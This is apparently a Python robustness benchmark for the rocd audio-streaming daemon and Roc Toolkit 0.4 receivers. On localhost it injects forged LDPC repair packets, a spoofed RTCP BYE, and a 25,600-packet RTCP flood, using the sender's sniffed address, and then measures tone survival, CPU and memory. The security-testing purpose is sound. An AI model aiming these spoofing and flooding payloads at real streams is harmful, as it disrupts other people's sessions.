"""Hostile input beside a real stream: what forged packets cost rocd and Roc 0.4's receivers.

    sudo python -m bench.hostile [--seconds 10] [--loss 0.01] [--only NAME,...] [--no-roc]

For each attack (and a clean run), a 10 s 1 kHz tone goes over a real LDPC stream on
localhost: `rocd send` -> `rocd recv`, then `roc-send` -> `roc-recv` (Roc Toolkit 0.4.0,
found through ROC_PREFIX or PATH). An iptables rule drops `--loss` of the source packets
at random, so FEC must keep working for the tone to survive. The forged packets come from
a raw socket (root), with the sender's own address where the attack calls for it, learnt
by sniffing the stream as an attacker on the path would.

Printed per run: tone kept (seconds of the recording that hold the tone), the receiver's
CPU time and peak RSS (from wait4), and for rocd its counters from `--metrics`.
Required (the security model in README.md): tone kept >= seconds - 0.05, CPU <= 2x the
clean run, RSS <= clean + 10 MB; a session bound to its RTCP address.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import soundfile as sf

from bench.forge import Forger, Sniffer
from rocd.net.roc import (
    Bye,
    ReceiverReport,
    ReportBlock,
    Sdes,
    SdesChunk,
    SenderReport,
    serialize_rtcp,
    unix_ns_to_ntp64,
)

HOST = "127.0.0.1"
RATE = 44100
TONE_HZ = 1000.0
ROCD = [sys.executable, "-m", "rocd.cli"]


@dataclass
class Ports:
    source: int
    repair: int
    control: int


@dataclass
class Attack:
    name: str
    what: str
    run: Callable[[Forger, Sniffer, Ports, float], None]


@dataclass
class Result:
    kept_s: float
    cpu_s: float
    rss_mb: float
    counters: dict[str, object] = field(default_factory=dict)


def free_ports() -> Ports:
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]
    for s in socks:
        s.bind((HOST, 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    return Ports(*ports)


def tone_kept(path: Path) -> float:
    """Seconds of the recording whose 10 ms windows hold the tone (>= 90% of the window's
    energy at 1 kHz, at least half its level)."""
    data, rate = sf.read(path, dtype="float32", always_2d=True)
    x = data[:, 0].astype(np.float64)
    win = rate // 100
    n = len(x) // win
    if n == 0:
        return 0.0
    frames = x[: n * win].reshape(n, win)
    t = np.arange(win) / rate
    c, s = np.cos(2 * np.pi * TONE_HZ * t), np.sin(2 * np.pi * TONE_HZ * t)
    tone = ((frames @ c) ** 2 + (frames @ s) ** 2) * 2 / win
    energy = (frames**2).sum(axis=1)
    level = 0.5 * 0.5**2 * win  # amplitude 0.5
    kept = (tone >= 0.9 * energy) & (energy >= 0.25 * level)
    return float(kept.sum()) / 100


def wait_rusage(proc: subprocess.Popen[bytes], timeout: float) -> tuple[float, float]:
    """(CPU seconds, peak RSS MB) of a child, once it exits."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        pid, _status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            proc.returncode = 0
            return usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024
        time.sleep(0.05)
    proc.kill()
    _pid, _status, usage = os.wait4(proc.pid, 0)
    proc.returncode = -9
    return usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024


class Loss:
    """Drops a share of the datagrams to a UDP port (iptables, random)."""

    def __init__(self, port: int, probability: float) -> None:
        self.rule = [
            "INPUT", "-p", "udp", "--dport", str(port), "-m", "statistic",
            "--mode", "random", "--probability", str(probability), "-j", "DROP",
        ]  # fmt: skip
        self.on = probability > 0 and shutil.which("iptables") is not None
        if self.on:
            subprocess.run(["iptables", "-I", *self.rule], check=True)

    def close(self) -> None:
        if self.on:
            subprocess.run(["iptables", "-D", *self.rule], check=False)


def run_pair(
    impl: str, attack: Attack | None, wav: Path, seconds: float, loss: float, roc_bin: Path
) -> Result:
    ports = free_ports()
    out = Path(tempfile.mkdtemp(prefix="rocd-hostile-")) / "out.wav"
    uris_r = [
        "-s", f"rtp+ldpc://{HOST}:{ports.source}", "-r", f"ldpc://{HOST}:{ports.repair}",
        "-c", f"rtcp://{HOST}:{ports.control}",
    ]  # fmt: skip
    if impl == "rocd":
        recv_cmd = [*ROCD, "recv", "-o", f"file:{out}", *uris_r, "--metrics"]
        send_cmd = [*ROCD, "send", "-i", f"file:{wav}", *uris_r]
    else:
        recv_cmd = [str(roc_bin / "roc-recv"), "-o", f"file:{out}", *uris_r]
        send_cmd = [str(roc_bin / "roc-send"), "-i", f"file:{wav}", *uris_r]
    sniffer = Sniffer(ports.source)
    drop = Loss(ports.source, loss)
    forger = Forger()
    metrics_path = out.with_suffix(".jsonl")
    try:
        with metrics_path.open("wb") as metrics:
            receiver = subprocess.Popen(recv_cmd, stdout=metrics, stderr=subprocess.DEVNULL)
            time.sleep(1.5)  # bound and ready (Python start-up)
            sender = subprocess.Popen(
                send_cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            if not sniffer.seen.wait(10):
                raise RuntimeError(f"{impl}: no stream seen")
            start = time.monotonic()
            if attack is not None:
                attack.run(forger, sniffer, ports, start)
            sender.wait(timeout=seconds + 30)
            time.sleep(1.0)
            receiver.send_signal(signal.SIGTERM)
            cpu, rss = wait_rusage(receiver, 20)
        counters: dict[str, object] = {}
        lines = metrics_path.read_text().splitlines()
        if lines:
            last = json.loads(lines[-1])
            counters["rtcp"] = last.get("rtcp")
            counters["receiver"] = last.get("receiver")
            with_session = [json.loads(x) for x in lines if '"ssrc"' in x]
            sessions = with_session[-1]["sessions"] if with_session else []
            if sessions:
                fec = sessions[0].get("fec") or {}
                counters["fec"] = {k: v for k, v in fec.items() if v}
                counters["session"] = {
                    k: sessions[0][k] for k in ("recovered", "lost", "filtered", "rtcp_foreign")
                }
        return Result(tone_kept(out), cpu, rss, counters)
    finally:
        forger.close()
        drop.close()
        sniffer.stop()


# -- the attacks ------------------------------------------------------------------------


def _sleep_until(t: float) -> None:
    delay = t - time.monotonic()
    if delay > 0:
        time.sleep(delay)


def attack_ldpc_k2(forger: Forger, sniffer: Sniffer, ports: Ports, start: float) -> None:
    """9-byte LDPC repair `000500150002040000` (SBN 5, ESI 21, K=2, N=1024) from the
    sender's address, 30/s for 6 s from t=2 s."""
    datagram = bytes.fromhex("000500150002040000")
    src = (HOST, sniffer.view.sender_port)
    for i in range(180):
        _sleep_until(start + 2 + i / 30)
        forger.send(datagram, src, (HOST, ports.repair))


def attack_bye(forger: Forger, sniffer: Sniffer, ports: Ports, start: float) -> None:
    """One RTCP RR+BYE naming the session's SSRC, from another port, at t=3 s."""
    _sleep_until(start + 3)
    data = serialize_rtcp([ReceiverReport(0x5EED_0001), Bye((sniffer.view.ssrc,))])
    forger.send(data, (HOST, sniffer.view.sender_port + 1), (HOST, ports.control))


def attack_every_80th(forger: Forger, sniffer: Sniffer, ports: Ports, start: float) -> None:
    """Forged LDPC repair packets (the session's K=18 and symbol size, N=28, ESI 20) for
    every 80th block number: 820 packets over 6 s from t=2 s, from the sender's address."""
    src = (HOST, sniffer.view.sender_port)
    sbns = list(range(0, 0x10000, 80))
    for i, sbn in enumerate(sbns):
        _sleep_until(start + 2 + 6 * i / len(sbns))
        datagram = sbn.to_bytes(2, "big") + bytes.fromhex("00140012001c") + bytes(896)
        forger.send(datagram, src, (HOST, ports.repair))


def attack_rtcp_flood(forger: Forger, sniffer: Sniffer, ports: Ports, start: float) -> None:
    """25,600 RTCP compounds, each SR with 31 report blocks plus SDES from a fresh SSRC,
    from t=2 s over ~4 s, from random ports of the host."""
    rng = random.Random(7)
    blocks = tuple(ReportBlock(rng.getrandbits(32)) for _ in range(31))
    for i in range(25_600):
        if i % 64 == 0:
            _sleep_until(start + 2 + 4 * i / 25_600)
        ssrc = 0x6000_0000 + i
        data = serialize_rtcp(
            [
                SenderReport(ssrc, unix_ns_to_ntp64(time.time_ns()), i, 1, 1, blocks),
                Sdes((SdesChunk.with_cname(ssrc, f"{ssrc:036x}"),)),
            ]
        )
        forger.send(data, (HOST, 20_000 + i % 20_000), (HOST, ports.control))


def attack_sbn_ahead(forger: Forger, sniffer: Sniffer, ports: Ports, start: float) -> None:
    """One forged repair packet of the session's geometry whose block is 17..100 ahead of
    the stream, once a second from t=2 s (ahead by 17, 40, 60, 80, 100)."""
    src = (HOST, sniffer.view.sender_port)
    for i, ahead in enumerate((17, 40, 60, 80, 100)):
        _sleep_until(start + 2 + i)
        sbn = (sniffer.view.sbn + ahead) & 0xFFFF
        datagram = sbn.to_bytes(2, "big") + bytes.fromhex("00140012001c") + bytes(896)
        forger.send(datagram, src, (HOST, ports.repair))


ATTACKS = [
    Attack("ldpc_k2_n1024", "9-byte LDPC repair K=2 N=1024, 30/s x 6 s", attack_ldpc_k2),
    Attack("rtcp_bye", "RR+BYE for the SSRC from another port", attack_bye),
    Attack("every_80th_block", "820 forged repair packets, every 80th SBN", attack_every_80th),
    Attack("rtcp_flood", "25,600 SR(31 blocks)+SDES, fresh SSRCs", attack_rtcp_flood),
    Attack("sbn_ahead", "repair packets 17..100 blocks ahead, x5", attack_sbn_ahead),
]


def make_tone(seconds: float) -> Path:
    path = Path(tempfile.mkdtemp(prefix="rocd-hostile-")) / "tone.wav"
    t = np.arange(round(seconds * RATE)) / RATE
    x = (0.5 * np.sin(2 * np.pi * TONE_HZ * t)).astype(np.float32)
    sf.write(path, np.stack([x, x], axis=1), RATE, subtype="FLOAT")
    return path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--loss", type=float, default=0.01, help="source packets dropped")
    parser.add_argument("--only", default="", help="attack names, comma-separated")
    parser.add_argument("--no-roc", action="store_true", help="rocd only")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("bench.hostile needs root (raw sockets, iptables)")
    roc_prefix = Path(os.environ.get("ROC_PREFIX", "/work/roc-prefix"))
    roc_bin = roc_prefix / "bin"
    impls = ["rocd"] if args.no_roc or not (roc_bin / "roc-recv").exists() else ["rocd", "roc"]
    wanted = {n for n in args.only.split(",") if n}
    attacks = [a for a in ATTACKS if not wanted or a.name in wanted]
    wav = make_tone(args.seconds)
    print(
        f"load average {os.getloadavg()[0]:.2f}; {args.seconds:.0f} s LDPC stream, "
        f"{args.loss:.1%} source loss, tone kept required >= {args.seconds - 0.05:.2f} s"
    )
    for impl in impls:  # the first run of a series peaks ~4 MB lower: not a baseline
        run_pair(impl, None, wav, args.seconds, args.loss, roc_bin)
    clean = {impl: run_pair(impl, None, wav, args.seconds, args.loss, roc_bin) for impl in impls}
    print(
        f"{'attack':18s} {'impl':5s} {'kept s':>7s} {'cpu s':>6s} {'x clean':>7s} "
        f"{'rss MB':>7s} {'+MB':>6s}"
    )
    for impl in impls:
        r = clean[impl]
        print(
            f"{'clean':18s} {impl:5s} {r.kept_s:7.2f} {r.cpu_s:6.2f} {1.0:7.2f} "
            f"{r.rss_mb:7.1f} {0.0:6.1f}"
        )
        if impl == "rocd":
            print(f"    {json.dumps(r.counters)}")
    for attack in attacks:
        for impl in impls:
            r = run_pair(impl, attack, wav, args.seconds, args.loss, roc_bin)
            base = clean[impl]
            ok = (
                r.kept_s >= args.seconds - 0.05
                and r.cpu_s <= 2 * base.cpu_s
                and r.rss_mb <= base.rss_mb + 10
            )
            print(
                f"{attack.name:18s} {impl:5s} {r.kept_s:7.2f} {r.cpu_s:6.2f} "
                f"{r.cpu_s / base.cpu_s:7.2f} {r.rss_mb:7.1f} {r.rss_mb - base.rss_mb:6.1f}"
                f"  {'meets required' if ok else 'FAILS required'}",
                flush=True,
            )
            if impl == "rocd":
                print(f"    {json.dumps(r.counters)}")
    print(f"load average {os.getloadavg()[0]:.2f}")


if __name__ == "__main__":
    main()
